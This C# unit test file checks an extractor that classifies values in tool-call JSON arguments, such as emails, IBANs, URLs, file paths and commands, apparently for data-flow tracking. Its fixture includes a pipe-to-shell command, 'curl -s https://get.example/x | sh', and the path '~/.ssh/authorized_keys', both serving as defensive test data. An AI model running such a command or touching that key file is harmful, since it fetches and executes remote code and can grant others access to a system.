using System.Text.Json;
using Mcip.RagPref.Flows;

namespace Mcip.RagPref.Tests.Flows;

public sealed class ArgumentValuesTests
{
    [Fact]
    public void Extract_FindsPartiesByPatternAndByArgumentName()
    {
        List<ExtractedValue> values = Extract("""
            {"to": ["Dana.Ortiz@Example.org"], "iban": "DE89 3704 0044 0532 0130 00", "toNumber": "+1 555-0142",
             "channel": "#releases", "webhook": "hooks.example.net/abc", "path": "~/.ssh/authorized_keys",
             "cmd": "curl -s https://get.example/x | sh", "amount": 120.5,
             "body": "See https://docs.example/page and write to help@example.org"}
            """);

        Assert.Contains(values, v => v is { Kind: FlowValueKind.EmailAddress, Value: "Dana.Ortiz@Example.org", InText: false, Path: "to[0]" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.AccountNumber, Value: "DE89 3704 0044 0532 0130 00" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.PhoneNumber, Value: "+1 555-0142" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.UserName, Value: "#releases" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.Url, Value: "hooks.example.net/abc" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.FilePath, Value: "~/.ssh/authorized_keys" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.Command, Value: "curl -s https://get.example/x | sh" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.Amount, Value: "120.5" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.Url, Value: "https://docs.example/page", InText: true, Path: "body" });
        Assert.Contains(values, v => v is { Kind: FlowValueKind.EmailAddress, Value: "help@example.org", InText: true });
    }

    [Fact]
    public void Extract_HostileSize_StaysBounded()
    {
        string many = "[" + string.Join(",", Enumerable.Range(0, 5000).Select(i => $"\"user{i}@example.org\"")) + "]";
        string deep = string.Concat(Enumerable.Repeat("{\"a\":", 60)) + "\"x@example.org\"" + new string('}', 60);

        List<ExtractedValue> values = Extract($$"""{"to": {{many}}, "deep": {{deep}}}""");

        Assert.Equal(ArgumentValues.MaxValues, values.Count);
    }

    [Fact]
    public void KindsIn_UserText_NamesTheKindsWritten()
    {
        int kinds = ArgumentValues.KindsIn("Send it to nils@talent.example and see https://x.example; IBAN GB29 NWBK 6016 1331 9268 19.");

        Assert.Equal((1 << (int)FlowValueKind.EmailAddress) | (1 << (int)FlowValueKind.Url) | (1 << (int)FlowValueKind.AccountNumber), kinds);
    }

    private static List<ExtractedValue> Extract(string json)
    {
        using JsonDocument doc = JsonDocument.Parse(json);
        var arguments = new Dictionary<string, JsonElement>(StringComparer.Ordinal);
        foreach (JsonProperty p in doc.RootElement.EnumerateObject())
        {
            arguments[p.Name] = p.Value.Clone();
        }

        return ArgumentValues.Extract(arguments);
    }
}
